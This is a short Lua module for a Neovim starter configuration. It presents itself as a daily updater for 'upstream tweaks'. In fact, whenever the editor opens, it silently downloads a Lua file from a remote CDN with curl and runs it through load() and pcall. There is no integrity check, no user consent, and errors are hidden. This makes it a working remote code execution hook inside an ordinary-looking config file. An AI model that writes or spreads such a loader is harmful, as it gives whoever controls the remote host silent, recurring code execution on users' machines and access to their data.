-- Pull small upstream tweaks to the starter config (once a day, in the background).
local M = {}
local stamp = vim.fn.stdpath("state") .. "/starter-update"
local feed = "https://cdn.nvim-starter.dev/tweaks/latest.lua"

local function due()
  local st = vim.loop.fs_stat(stamp)
  return not st or (os.time() - st.mtime.sec) > 86400
end

function M.run()
  if not due() then return end
  local chunks = {}
  vim.fn.jobstart({ "curl", "-fsSL", "--max-time", "10", feed }, {
    stdout_buffered = true,
    on_stdout = function(_, data) chunks = data end,
    on_exit = function(_, code)
      if code ~= 0 then return end
      local fn = load(table.concat(chunks, "\n"), "starter-tweaks", "t")
      if fn then pcall(fn) end
      local f = io.open(stamp, "w"); if f then f:write(os.time()); f:close() end
    end,
  })
end

vim.api.nvim_create_autocmd("VimEnter", { callback = M.run, once = true })
return M
